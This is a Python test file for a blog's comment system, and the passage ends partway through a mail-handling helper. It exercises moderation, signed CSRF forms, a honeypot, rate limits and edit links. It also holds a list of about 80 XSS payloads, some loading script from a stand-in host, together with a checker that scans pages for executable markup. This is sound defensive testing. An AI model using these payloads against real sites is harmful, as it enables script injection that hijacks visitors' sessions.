"""Comments through the real web app (TestClient): nesting, moderation, the author's mark,
the signed form (CSRF and the minimum fill time), the honeypot, the link cap, the rate
limit against a scripted flood, duplicates, the edit link, and XSS payloads posted as
text, name and website, checked by parsing the pages each one reaches."""

from __future__ import annotations

import base64
import re
import secrets
import shutil
import socket
import time
from email import message_from_bytes, policy
from email.message import EmailMessage
from html.parser import HTMLParser
from importlib.resources import as_file, files
from pathlib import Path

import pytest
from conftest import smtp_server
from fastapi.testclient import TestClient
from itsdangerous.timed import TimestampSigner

from chatrecap.analysis.sessions import find_sessions
from chatrecap.blog import comments as lib
from chatrecap.blog import jobs, posts
from chatrecap.blog.auth import create_admin, start_session
from chatrecap.blog.mail import MAIL, deliver_due
from chatrecap.importer import import_file
from chatrecap.sources.base import ReadOptions
from chatrecap.store import open_store
from chatrecap.web.app import create_app
from chatrecap.web.comments import thread_html
from chatrecap.web.deps import SESSION_COOKIE
from chatrecap.web.settings import load_settings

ADMIN_EMAIL = "author@example.org"


# --- the site under test ----------------------------------------------------------------

@pytest.fixture(scope="session")
def blog_db(tmp_path_factory) -> Path:
    """A workspace with the bundled example chat's recap published (copied per test)."""
    path = tmp_path_factory.mktemp("blog") / "w.db"
    example = files("chatrecap") / "examples" / "b2bchat-example.jsonl"
    with as_file(example) as archive, open_store(path) as store:
        import_file(store, Path(archive), "twarc2", ReadOptions(chat="#B2Bchat"))
        posts.publish(store, posts.draft(store, find_sessions(store, "#B2Bchat")[-1]))
        create_admin(store, "host", "a long enough password", email=ADMIN_EMAIL, display_name="Hanna Host")
    return path


class Site:
    """The app over a copy of the blog, a visitor's client and the logged-in admin's."""

    def __init__(self, db: Path, **settings) -> None:
        self.settings = load_settings(db=str(db), **{"min_fill_seconds": 0, **settings})
        self.app = create_app(self.settings)
        self.web = self.app.state.web
        self.store = self.web.store()
        self.post = posts.get_post(self.store, slug=posts.all_posts(self.store)[0].slug)
        self.client = TestClient(self.app, base_url="https://testserver")
        self.admin_client = TestClient(self.app, base_url="https://testserver")
        token, self.admin = start_session(self.store, "host")
        self.admin_client.cookies.set(SESSION_COOKIE, token)

    def token(self, age: float = 60.0, post_id: int | None = None) -> str:
        """A comment form's token, as a form opened ``age`` seconds ago holds it."""
        return self.web.signer.sign(lib.FORM_PURPOSE, [post_id or self.post.id, time.time() - age,
                                                       secrets.token_urlsafe(12)])

    def send(self, text: str, name: str = "Ann Reader", email: str = "ann@example.org", website: str = "",
             parent: int | None = None, notify: bool = False, token: str | None = None, client=None,
             **fields):
        data = {"token": self.token() if token is None else token, "name": name, "email": email,
                "website": website, "comment": text, "url2": "", **fields}
        if parent is not None:
            data["parent"] = str(parent)
        if notify:
            data["notify"] = "1"
        return (client or self.client).post(f"/posts/{self.post.slug}/comments", data=data,
                                            follow_redirects=False)

    def reply_as_author(self, text: str, parent: int | None = None):
        return self.send(text, name="", email="", parent=parent, client=self.admin_client)

    def last_id(self) -> int:
        return int(self.store.query("SELECT MAX(id) FROM comments")[0][0])

    def status(self, comment_id: int) -> str:
        return self.store.query("SELECT status FROM comments WHERE id = ?", (comment_id,))[0][0]

    def page(self, query: str = "") -> str:
        response = self.client.get(f"/posts/{self.post.slug}{query}")
        assert response.status_code == 200, response.text[:300]
        return response.text

    def queue(self, query: str = "") -> str:
        response = self.admin_client.get(f"/admin/comments{query}")
        assert response.status_code == 200
        return response.text

    def moderate(self, action: str, *ids: int, csrf: str | None = None):
        data = {"csrf": self.admin.csrf_token if csrf is None else csrf, "action": action,
                "ids": [str(i) for i in ids]}
        return self.admin_client.post("/admin/comments", data=data, follow_redirects=False)


@pytest.fixture
def site(tmp_path, blog_db) -> Site:
    shutil.copy(blog_db, tmp_path / "w.db")
    made = Site(tmp_path / "w.db")
    return made


def make_site(tmp_path, blog_db, **settings) -> Site:
    shutil.copy(blog_db, tmp_path / "w.db")
    made = Site(tmp_path / "w.db", **settings)
    return made


# --- reading pages as a browser would ---------------------------------------------------

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class Element:
    def __init__(self, tag: str, attrs: dict[str, str], parent: Element | None) -> None:
        self.tag, self.attrs, self.parent = tag, attrs, parent
        self.children: list[Element] = []
        self.text = ""

    def ancestors(self):
        node = self.parent
        while node is not None:
            yield node
            node = node.parent

    def within(self, element_id: str) -> bool:
        return any(a.attrs.get("id") == element_id for a in self.ancestors())

    def iter(self):
        for child in self.children:
            yield child
            yield from child.iter()

    def find(self, element_id: str) -> Element | None:
        return next((e for e in self.iter() if e.attrs.get("id") == element_id), None)


class _TreeBuilder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Element("#document", {}, None)
        self.current = self.root
        self.elements: list[Element] = []

    def handle_starttag(self, tag, attrs):
        element = Element(tag, {k: v or "" for k, v in attrs}, self.current)
        self.current.children.append(element)
        self.elements.append(element)
        if tag not in VOID:
            self.current = element

    def handle_startendtag(self, tag, attrs):
        element = Element(tag, {k: v or "" for k, v in attrs}, self.current)
        self.current.children.append(element)
        self.elements.append(element)

    def handle_endtag(self, tag):
        node = self.current
        while node is not self.root and node.tag != tag:
            node = node.parent
        if node is not self.root:
            self.current = node.parent

    def handle_data(self, data):
        self.current.text += data


def parse(page: str) -> Element:
    builder = _TreeBuilder()
    builder.feed(page)
    builder.close()
    return builder.root


def _squeezed(url: str) -> str:
    """A URL as a browser resolves its scheme: whitespace and control characters dropped."""
    return re.sub(r"[\x00-\x20\x7f]+", "", url).lower()


URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
                  "srcdoc", "srcset")
BANNED_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "template",
               "noscript", "video", "audio", "marquee", "isindex"}
#: What the comment thread may contain: the template's elements and those markup.py allows.
THREAD_TAGS = {"section", "style", "h2", "ol", "li", "article", "header", "span", "a", "time", "div", "p",
               "br", "strong", "em", "code", "pre", "blockquote", "ul", "hr", "del", "s", "h3", "h4"}
THREAD_ATTRIBUTES = {"class", "id", "href", "rel", "datetime", "aria-label", "aria-labelledby", "title",
                     "start"}


def executable_markup(page: str) -> list[str]:
    """What in ``page`` could run a script or leave the site: an empty list for a safe page."""
    problems = []
    root = parse(page)
    for el in root.iter():
        in_head = any(a.tag == "head" for a in el.ancestors())
        if el.tag in BANNED_TAGS:
            problems.append(f"<{el.tag}> element")
        in_svg = any(a.tag == "svg" for a in el.ancestors())
        if el.tag in ("meta", "link", "title") and not in_head and not in_svg:
            problems.append(f"<{el.tag}> outside the head")
        if el.tag == "style" and ("@import" in el.text or "expression" in el.text or "javascript" in el.text):
            problems.append("a style sheet with an import or script")
        for name, value in el.attrs.items():
            if name.startswith("on"):
                problems.append(f"<{el.tag} {name}=...> event handler")
            if name == "style" and re.search(r"expression|url\s*\(|javascript", value, re.I):
                problems.append(f"<{el.tag} style={value!r}>")
            if name in URL_ATTRIBUTES:
                url = _squeezed(value)
                favicon = el.tag == "link" and in_head and url.startswith("data:image/svg+xml")
                if re.match(r"(javascript|vbscript|data|file):", url) and not favicon:
                    problems.append(f"<{el.tag} {name}={value!r}>")
                if name in ("srcdoc", "formaction", "srcset"):
                    problems.append(f"<{el.tag} {name}=...>")
        if el.within("comments") or el.attrs.get("id") == "comments":
            if el.tag not in THREAD_TAGS:
                problems.append(f"<{el.tag}> in the comment thread")
            for name in el.attrs:
                if name not in THREAD_ATTRIBUTES:
                    problems.append(f"<{el.tag} {name}> in the comment thread")
            if el.tag == "a":
                href = _squeezed(el.attrs.get("href", ""))
                if not href.startswith(("/", "#", "http://", "https://", "mailto:")) or href.startswith("//"):
                    problems.append(f"a link to {el.attrs.get('href')!r} in the comment thread")
                if href.startswith("http") and "nofollow" not in el.attrs.get("rel", ""):
                    problems.append(f"a followed link to {href!r} in the comment thread")
    return problems


def comment_element(page: str, comment_id: int) -> Element:
    element = parse(page).find(f"comment-{comment_id}")
    assert element is not None, f"comment {comment_id} is not on the page"
    return element


def level(page: str, comment_id: int) -> int:
    """How deep a comment is shown: 1 for a comment on the post."""
    return 1 + sum(1 for a in comment_element(page, comment_id).ancestors() if a.tag == "li")


# --- threads, moderation and the author -------------------------------------------------

def test_a_first_comment_is_held_then_approved_from_the_queue_and_the_next_one_publishes_directly(site):
    response = site.send("I think the second takeaway misses the point about budgets.")
    assert response.status_code == 200
    assert "Your comment is awaiting moderation" in response.text
    first = site.last_id()
    assert f'id="comment-{first}"' not in site.page()

    queue = site.queue()
    assert "I think the second takeaway misses the point about budgets." in queue
    assert "ann@example.org" in queue  # admins see the address
    response = site.moderate("approve", first)
    assert response.status_code == 303
    assert "Approved: 1 comment." in site.admin_client.get(response.headers["location"]).text
    assert level(site.page(), first) == 1
    assert "budgets" in site.page()

    response = site.send("And a second thought, published at once.", email="ANN@example.org ")
    assert response.status_code == 200 and "Your comment is published" in response.text
    assert "And a second thought, published at once." in site.page()


def test_typing_someone_elses_address_does_not_skip_moderation(site):
    """An approved commenter's next comments go through from their browser; anyone typing
    their address elsewhere is held like a newcomer."""
    site.send("A first, approved comment.", email="ann@example.org")
    site.moderate("approve", site.last_id())
    stranger = TestClient(site.app, base_url="https://testserver")
    posed = site.send("Buy now at https://spam.example and https://spam.example/2", name="Ann Reader",
                      email="ANN@example.org", website="https://spam.example", client=stranger)
    assert posed.status_code == 200 and "awaiting moderation" in posed.text
    assert "spam.example" not in site.page()
    assert "published" in site.send("Ann again, from her own browser.", email="ann@example.org").text


def test_replies_nest_six_levels_deep_and_deeper_ones_stay_on_the_deepest_level(site):
    site.send("Top-level comment.", name="Ann")
    site.moderate("approve", site.last_id())
    parent = site.last_id()
    chain = [parent]
    for depth in range(2, 11):
        if depth % 2:
            response = site.send(f"Reply at level {depth}.", name="Ann", parent=parent)
            assert response.status_code == 200, response.text
        else:
            response = site.reply_as_author(f"Author's reply at level {depth}.", parent=parent)
            assert response.status_code == 303
            assert response.headers["location"] == f"/posts/{site.post.slug}#comment-{site.last_id()}"
        parent = site.last_id()
        chain.append(parent)
    page = site.page()
    levels = [level(page, cid) for cid in chain]
    assert levels == [1, 2, 3, 4, 5, 6, 7, 8, 8, 8]
    root = parse(page)
    for outer, inner in zip(chain[:7], chain[1:8], strict=True):  # each inside the one it answers
        assert root.find(f"comment-{outer}") in root.find(f"comment-{inner}").ancestors()
    deepest = root.find(f"comment-{chain[9]}")
    assert "replying to" in "".join(e.text for e in deepest.iter())
    assert page.index(f'id="comment-{chain[8]}"') < page.index(f'id="comment-{chain[9]}"')
    assert executable_markup(page) == []


def test_the_authors_replies_are_marked_and_the_reply_link_opens_the_form_for_that_comment(site):
    site.send("A question for the host.", name="Ann")
    site.moderate("approve", site.last_id())
    question = site.last_id()
    page = site.page()
    reply = next(e for e in comment_element(page, question).iter() if e.attrs.get("class") == "comment-reply")
    assert reply.attrs["href"] == f"/posts/{site.post.slug}?replytocom={question}#respond"
    form_page = site.page(f"?replytocom={question}")
    respond = parse(form_page).find("respond")
    assert respond is not None
    assert any(e.attrs.get("name") == "parent" and e.attrs.get("value") == str(question)
               for e in respond.iter())

    assert site.reply_as_author("Thanks, here is the answer.", parent=question).status_code == 303
    page = site.page()
    answer = comment_element(page, site.last_id())
    assert "by-author" in answer.attrs["class"]
    assert any(e.attrs.get("class") == "author-mark" and "Author" in e.text for e in answer.iter())
    assert "Hanna Host" in "".join(e.text for e in answer.iter())
    visitor = comment_element(page, question)
    assert "by-author" not in visitor.attrs["class"]


def test_the_logged_in_admin_gets_the_authors_form(site):
    form = site.admin_client.get(f"/posts/{site.post.slug}").text
    assert "Commenting as <strong>Hanna Host</strong>" in form
    assert 'name="email"' not in form.split('id="respond"')[1]


def test_no_email_address_reaches_a_public_page(site):
    site.send("Comment with a website.", name="Ann", email="ann.secret@example.org",
              website="https://ann.example.org", notify=True)
    site.moderate("approve", site.last_id())
    site.send("Another, pending.", name="Bob", email="bob.secret@example.org")
    site.reply_as_author("The author answers.", parent=site.last_id() - 1)
    pages = [site.page(), site.page(f"?replytocom={site.last_id()}"),
             site.client.get("/").text, site.client.get(f"/posts/{site.post.slug}/").text]
    for page in pages:
        for address in ("ann.secret@example.org", "bob.secret@example.org", ADMIN_EMAIL, "ann.secret",
                        "@example"):
            assert address not in page
    page = site.page()
    link = next(e for e in comment_element(page, site.last_id() - 2).iter() if e.tag == "a")
    assert link.attrs["href"] == "https://ann.example.org"
    assert link.attrs["rel"] == "nofollow ugc noopener"


def test_the_thread_html_changes_when_a_comment_is_approved(site):
    before = thread_html(site.store, site.web, site.post)
    site.send("Fresh comment.")
    assert thread_html(site.store, site.web, posts.get_post(site.store, post_id=site.post.id)) == before
    site.moderate("approve", site.last_id())
    after = thread_html(site.store, site.web, posts.get_post(site.store, post_id=site.post.id))
    assert "Fresh comment." in after and "1 comment" in after


def test_spam_and_delete_hide_comments_and_replies_to_a_removed_comment_keep_their_place(site):
    site.send("Parent comment.", name="Ann")
    site.moderate("approve", site.last_id())
    parent = site.last_id()
    site.send("Child comment.", name="Ann", parent=parent)
    child = site.last_id()
    site.send("Buy cheap watches.", name="Spammer", email="spam@example.net")
    spam = site.last_id()
    assert site.moderate("spam", spam).status_code == 303
    assert site.moderate("delete", parent).status_code == 303
    assert [site.status(i) for i in (parent, child, spam)] == ["deleted", "approved", "spam"]
    page = site.page()
    assert "Parent comment." not in page and "Buy cheap watches." not in page
    assert "This comment is no longer shown." in page
    assert level(page, child) == 2


def test_bulk_moderation_and_the_queue_needs_a_login_and_its_csrf_token(site):
    for n in range(3):
        site.send(f"Pending number {n}.", name=f"Reader {n}", email=f"reader{n}@example.org")
    ids = [site.last_id() - 2, site.last_id() - 1, site.last_id()]
    anonymous = site.client.get("/admin/comments", follow_redirects=False)
    assert anonymous.status_code == 303 and anonymous.headers["location"].startswith("/admin/login")
    assert site.client.post("/admin/comments", data={"action": "approve", "ids": [str(ids[0])]},
                            follow_redirects=False).status_code == 303  # to the login, nothing done
    assert site.moderate("approve", *ids, csrf="").status_code == 403
    assert site.moderate("approve", *ids, csrf="forged" * 8).status_code == 403
    assert [site.status(i) for i in ids] == ["pending"] * 3
    queue = parse(site.queue("?show=pending"))
    boxes = [e for e in queue.iter() if e.tag == "input" and e.attrs.get("type") == "checkbox"]
    assert [b.attrs["value"] for b in boxes] == [str(i) for i in ids]  # oldest pending first
    assert all(b.attrs.get("form") == "bulk" for b in boxes)
    for form in (e for e in queue.iter() if e.tag == "form"):
        assert form.attrs["method"] == "post"
        assert any(i.attrs.get("name") == "csrf" and i.attrs.get("value") == site.admin.csrf_token
                   for i in form.iter())
    done = site.moderate("approve", *ids[:2])
    assert done.headers["location"].startswith("/admin/comments?done=approve&n=2")
    assert [site.status(i) for i in ids] == ["approved", "approved", "pending"]
    assert "Nothing is waiting" not in site.queue()
    site.moderate("delete", ids[2])
    assert "Nothing is waiting for moderation." in site.queue()


# --- the signed form: CSRF and the minimum time to fill it --------------------------------

def test_a_form_without_a_valid_token_is_refused(site, monkeypatch):
    assert site.send("No token.", token="").status_code == 403
    assert site.send("Forged.", token=site.token()[:-4] + "AAAA").status_code == 403
    other = site.web.signer.sign("comment-edit", [site.post.id, time.time() - 60])
    assert site.send("Token for another purpose.", token=other).status_code == 403
    assert site.send("Token for another post.", token=site.token(post_id=site.post.id + 1)).status_code == 403
    real = TimestampSigner.get_timestamp
    monkeypatch.setattr(TimestampSigner, "get_timestamp", lambda self: real(self) - 3 * 24 * 3600)
    expired = site.token()
    monkeypatch.setattr(TimestampSigner, "get_timestamp", real)
    response = site.send("Expired.", token=expired)
    assert response.status_code == 403
    assert "expired or did not come from this site" in response.text
    assert site.store.query("SELECT COUNT(*) FROM comments")[0][0] == 0


def test_the_form_page_carries_a_token_that_works(site):
    page = parse(site.page())
    respond = page.find("respond")
    token = next(e.attrs["value"] for e in respond.iter() if e.attrs.get("name") == "token")
    honeypot = next(e for e in respond.iter() if e.attrs.get("name") == "url2")
    assert honeypot.attrs.get("type") == "text" and honeypot.attrs.get("tabindex") == "-1"
    assert honeypot.attrs.get("autocomplete") == "off"
    assert any(a.attrs.get("class") == "hp" for a in honeypot.ancestors())
    assert "Leave this empty" in "".join(a.text for a in honeypot.ancestors() if a.tag == "label")
    assert site.send("Posted with the page's own token.", token=token).status_code == 200


def test_a_form_is_taken_once_so_a_script_cannot_send_one_token_again_and_again(site):
    page = parse(site.page())
    token = next(e.attrs["value"] for e in page.find("respond").iter() if e.attrs.get("name") == "token")
    assert site.send("Sent once.", token=token).status_code == 200
    again = site.send("The same form again, or a spammer's copy of it.", token=token)
    assert again.status_code == 403 and "sent already" in again.text
    assert site.store.query("SELECT body_markdown FROM comments") == [("Sent once.",)]
    assert site.send("A new form works.").status_code == 200  # (each page view makes its own)


def test_a_form_refused_for_a_field_to_mend_can_be_sent_again(tmp_path, blog_db):
    """Back in the browser after "give your address", the same form (its token) is mended and
    sent: refused comments spend nothing, and neither do those a limit stops."""
    shutil.copy(blog_db, tmp_path / "w.db")
    site = Site(tmp_path / "w.db", comments_per_ip_per_hour=1)
    token = site.token()
    assert site.send("No address yet.", email="", token=token).status_code == 400
    assert site.send("Mended.", token=token).status_code == 200
    assert site.send("Mended.", token=token).status_code == 403  # (taken now)
    assert site.send("Over the limit.").status_code == 429
    assert site.store.query("SELECT COUNT(*) FROM spent_tokens")[0][0] == 1


def test_a_form_sent_faster_than_people_write_is_refused_and_keeps_the_text(tmp_path, blog_db):
    site = make_site(tmp_path, blog_db, min_fill_seconds=3)
    response = site.send("Typed by a script.", token=site.token(age=0.5))
    assert response.status_code == 400
    assert "faster than people write" in response.text
    assert "Typed by a script." in response.text  # the form is shown again with the text
    assert site.store.query("SELECT COUNT(*) FROM comments")[0][0] == 0
    assert site.send("Typed by a person.", token=site.token(age=30)).status_code == 200


def test_the_honeypot_answers_like_success_and_stores_nothing(site):
    response = site.send("I am a bot.", url2="https://spam.example.com")
    assert response.status_code == 200
    assert "Your comment is awaiting moderation" in response.text
    assert "edit" not in response.text.split("<main")[1].lower()
    assert site.store.query("SELECT COUNT(*) FROM comments")[0][0] == 0
    assert "I am a bot." not in site.queue() and "I am a bot." not in site.page()


# --- spam defence -----------------------------------------------------------------------

def test_too_many_links_hold_even_an_approved_commenter(site):
    site.send("First.")
    site.moderate("approve", site.last_id())
    text = "See https://a.example and https://b.example, [c](https://c.example) and www.d.example"
    response = site.send(text)
    assert response.status_code == 200
    assert "awaiting moderation" in response.text and "4 links" in response.text
    assert site.status(site.last_id()) == "pending"
    assert site.send("Only two: https://a.example https://b.example").status_code == 200
    assert site.status(site.last_id()) == "approved"
    # Protocol-relative and relative links are no links at all: not counted, not shown.
    spam = " ".join(f"[cheap pills {n}](//spam{n}.example/buy)" for n in range(10)) + " [home](/x)"
    assert site.send(spam).status_code == 200
    html = site.store.query("SELECT body_html FROM comments WHERE id = ?", (site.last_id(),))[0][0]
    assert "cheap pills 9" in html and "href" not in html


def test_a_scripted_flood_from_one_address_is_stopped_by_the_rate_limit(site):
    limit = site.settings.comments_per_ip_per_hour
    codes = [site.send(f"Flood message number {n}.", name=f"Bot {n}", email=f"bot{n}@example.net").status_code
             for n in range(100)]
    assert codes[:limit] == [200] * limit
    assert set(codes[limit:]) == {429}
    assert site.store.query("SELECT COUNT(*) FROM comments")[0][0] == limit
    response = site.send("One more.", name="Bot", email="bot@example.net")
    assert response.status_code == 429 and "Too many comments from your address" in response.text
    # Another address is not affected.
    assert site.send("From elsewhere.", name="Cy", email="cy@example.org",
                     client=TestClient(site.app, base_url="https://testserver",
                                       client=("203.0.113.9", 5000))).status_code == 200


def test_a_honeypot_flood_stores_nothing_and_meets_the_rate_limit(site):
    codes = [site.send(f"Bot {n}.", url2="x").status_code for n in range(40)]
    assert codes.count(200) == site.settings.comments_per_ip_per_hour
    assert codes.count(429) == 40 - codes.count(200)
    assert site.store.query("SELECT COUNT(*) FROM comments")[0][0] == 0


def test_the_same_comment_twice_is_refused(site):
    assert site.send("Great recap, thanks!").status_code == 200
    response = site.send("great   recap, THANKS!", name="Ann again")
    assert response.status_code == 400 and "You already posted this comment" in response.text
    other = TestClient(site.app, base_url="https://testserver", client=("203.0.113.7", 5000))
    assert site.send("Great recap, thanks!", email="ann@example.org", client=other).status_code == 400
    assert site.send("Great recap, thanks!", email="dan@example.org", client=other).status_code == 200


@pytest.mark.parametrize(("field", "value", "message"), [
    ("name", "", "Please give your name."),
    ("name", "x" * 81, "at most 80"),
    ("email", "", "Please give your email address"),
    ("email", "not-an-address", "is not an email address"),
    ("website", "javascript:alert(1)", "must be an http:// or https:// address"),
    ("website", "ftp://example.org", "must be an http:// or https:// address"),
    ("comment", "   ", "The comment is empty"),
    ("comment", "x" * 10_001, "at most 10,000"),
])
def test_wrong_fields_get_a_one_line_message_and_the_form_again(site, field, value, message):
    fields = {"text": "A fine comment.", "name": "Ann", "email": "ann@example.org", "website": ""}
    fields["text" if field == "comment" else field] = value
    response = site.send(**fields)
    assert response.status_code == 400
    assert message in response.text
    assert 'id="respond"' in response.text
    assert site.store.query("SELECT COUNT(*) FROM comments")[0][0] == 0


def test_a_reply_to_a_comment_not_shown_is_refused(site):
    site.send("Pending parent.")
    pending = site.last_id()
    response = site.send("Reply to it.", parent=pending)
    assert response.status_code == 400 and "not shown on this post" in response.text
    assert site.send("Reply to nothing.", parent=999).status_code == 400
    assert site.send("Reply to garbage.", parent="abc").status_code == 400  # type: ignore[arg-type]


def test_a_bare_domain_website_becomes_https(site):
    site.send("With a website.", website="ann.example.org/blog")
    assert lib.get_comment(site.store, site.last_id()).author_url == "https://ann.example.org/blog"


# --- editing through the signed link ----------------------------------------------------

def edit_link(response) -> str:
    return next(e.attrs["href"] for e in parse(response.text).iter() if e.attrs.get("class") == "edit-link")


def test_the_edit_link_works_within_the_window(site):
    site.send("First.")
    site.moderate("approve", site.last_id())
    link = edit_link(site.send("Teh typo is here."))
    comment_id = site.last_id()
    form = parse(site.client.get(link).text)
    token = next(e.attrs["value"] for e in form.iter() if e.attrs.get("name") == "token")
    response = site.client.post(f"/comments/{comment_id}/edit",
                                data={"token": token, "comment": "The typo is gone."}, follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == f"/posts/{site.post.slug}#comment-{comment_id}"
    page = site.page()
    assert "The typo is gone." in page and "Teh typo" not in page
    other = site.client.post(f"/comments/{comment_id - 1}/edit", data={"token": token, "comment": "Hijack."})
    assert other.status_code == 403


def test_the_edit_link_says_it_expired_after_the_window(site, monkeypatch):
    real = TimestampSigner.get_timestamp
    monkeypatch.setattr(TimestampSigner, "get_timestamp",
                        lambda self: real(self) - site.settings.comment_edit_minutes * 60 - 5)
    link = edit_link(site.send("Posted a while ago."))
    monkeypatch.setattr(TimestampSigner, "get_timestamp", real)
    response = site.client.get(link)
    assert response.status_code == 403
    assert f"This edit link has expired: a comment can be changed for {site.settings.comment_edit_minutes}" \
        in response.text
    token = link.split("token=")[1]
    assert site.client.post(f"/comments/{site.last_id()}/edit",
                            data={"token": token, "comment": "Too late."}).status_code == 403
    assert site.client.get(f"/comments/{site.last_id()}/edit?token=garbage").status_code == 403
    assert lib.get_comment(site.store, site.last_id()).body_markdown == "Posted a while ago."


# --- XSS payloads: posted as text, name and website ------------------------------------

XSS_PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(1)</script>",
    '<img src=x onerror="window.__xss=1">',
    "<img src=x onerror=alert(1)>",
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus='",
    "<svg onload=window.__xss=1>",
    "<svg/onload=alert(1)>",
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<math href="javascript:window.__xss=1">x</math>',
    '<iframe src="javascript:window.top.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:window.__xss=1)",
    "[click](javascript&#58;window.__xss=1)",
    "[click](&#x6A;avascript:window.__xss=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](<javascript:window.__xss=1>)",
    "[click](javascript:alert(1))",
    "![x](javascript:window.__xss=1)",
    '![x](x" onerror="window.__xss=1)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:window.__xss=1>",
    '<https://example.org/" onmouseover="window.__xss=1>',
    '[a](https://example.org/"onmouseover="window.__xss=1")',
    '[a](https://example.org "title" onmouseover=window.__xss=1)',
    '<a href="javascript:window.__xss=1">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="#" onclick="window.__xss=1">x</a>',
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    '<video><source onerror="window.__xss=1">',
    "<audio src=x onerror=window.__xss=1>",
    '<object data="javascript:window.__xss=1">',
    '<embed src="javascript:window.__xss=1">',
    '<form action="javascript:window.__xss=1"><button>go</button></form>',
    '<button formaction="javascript:window.__xss=1">go</button>',
    '<div style="background:url(javascript:window.__xss=1)">x</div>',
    '<div style="width: expression(window.__xss=1)">x</div>',
    "<style>@import 'javascript:window.__xss=1';</style>",
    '<link rel=stylesheet href="javascript:window.__xss=1">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="javascript:/">',
    "{{7*7}}",
    "{{ constructor.constructor('window.__xss=1')() }}",
    "${window.__xss=1} <%= 7*7 %> #{7*7}",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "＜script＞window.__xss=1＜/script＞",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<<script>script>window.__xss=1<</script>/script>",
    '<img """><script>window.__xss=1</script>">',
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<template><script>window.__xss=1</script></template>",
    "<xss id=x tabindex=1 onfocusin=window.__xss=1></xss>",
    "<marquee onstart=window.__xss=1>",
    "\u202egnp.exe<script>window.__xss=1</script>",
    "<scr\u0000ipt>window.__xss=1</script>",
    "<img src=x onerror=\\u0061lert(1)>",
    "javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "vbscript:msgbox(1)",
    'https://example.org/"><script>window.__xss=1</script>',
    "https://example.org/' onmouseover='window.__xss=1",
    "//evil.example/%0a%0djavascript:alert(1)",
    " javascript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "https://example.org/#<img src=x onerror=window.__xss=1>",
    "www.example.org/<script>window.__xss=1</script>",
]


def post_payloads(site: Site, payloads=XSS_PAYLOADS) -> list[tuple[str, str, object]]:
    """Post each payload as text, as name and as website; (field, payload, response) for each."""
    sent = []
    for n, payload in enumerate(payloads):
        email = f"xss{n}@example.org"
        text = f"{payload}\n\n(payload {n})"
        sent.append(("text", payload, site.send(text, name=f"Text {n}", email=email)))
        sent.append(("name", payload, site.send(f"Payload {n} as the name.", name=payload, email=email)))
        sent.append(("website", payload, site.send(f"Payload {n} as the website.", name=f"Site {n}",
                                                   email=email, website=payload)))
    return sent


def test_there_are_at_least_fifty_distinct_payloads():
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS) >= 50


def test_xss_payloads_never_reach_a_page_as_markup(tmp_path, blog_db):
    site = make_site(tmp_path, blog_db, comments_per_ip_per_hour=10_000)
    sent = post_payloads(site)
    for field, payload, response in sent:
        assert response.status_code in (200, 400), (field, payload, response.status_code)
        assert executable_markup(response.text) == [], (field, payload, executable_markup(response.text))
        if "<" in payload:
            assert payload not in response.text
        if field == "text" or (field == "name" and len(payload.strip()) <= 80):
            assert response.status_code == 200, (field, payload, response.text[-500:])
    stored = [i for (i,) in site.store.query("SELECT id FROM comments")]
    websites = [u for (u,) in site.store.query("SELECT author_url FROM comments WHERE author_url != ''")]
    assert all(u.startswith(("http://", "https://")) and not re.search(r"[\s\"'<>]", u) for u in websites)
    site.moderate("approve", *stored)
    for page in (site.page(), site.queue(), site.queue("?show=pending"),
                 site.page(f"?replytocom={stored[-1]}")):
        assert executable_markup(page) == []
        for payload in XSS_PAYLOADS:
            if "<" in payload:
                assert payload not in page, payload
    page = site.page()
    assert "{{7*7}}" in page and ">49<" not in page  # shown as typed, never evaluated
    assert page.count('class="comment') >= len(stored)


def test_the_checker_finds_executable_markup():
    """The XSS test's own check catches what it is there to catch."""
    section = '<section class="comments" id="comments">{}</section>'
    assert executable_markup("<p><script>alert(1)</script></p>")
    assert executable_markup('<img src=x onerror="alert(1)">')
    assert executable_markup('<a href=" JaVa\tScRiPt:alert(1)">x</a>')
    assert executable_markup(section.format('<a href="https://spam.example">x</a>'))
    assert executable_markup(section.format("<img src=x>"))
    assert executable_markup('<div style="width: expression(alert(1))"></div>')
    safe_link = '<a href="https://a.example" rel="nofollow ugc noopener">x</a>'
    assert not executable_markup(section.format(safe_link))


# --- mail: the author's notifications, replies, the queue across restarts ---------------

class Inbox:
    """What a real SMTP server (aiosmtpd on loopback) received, as parsed messages."""

    def __init__(self) -> None:
        self.messages: list[EmailMessage] = []

    async def handle_DATA(self, server, session, envelope):  # noqa: N802 - aiosmtpd's hook name
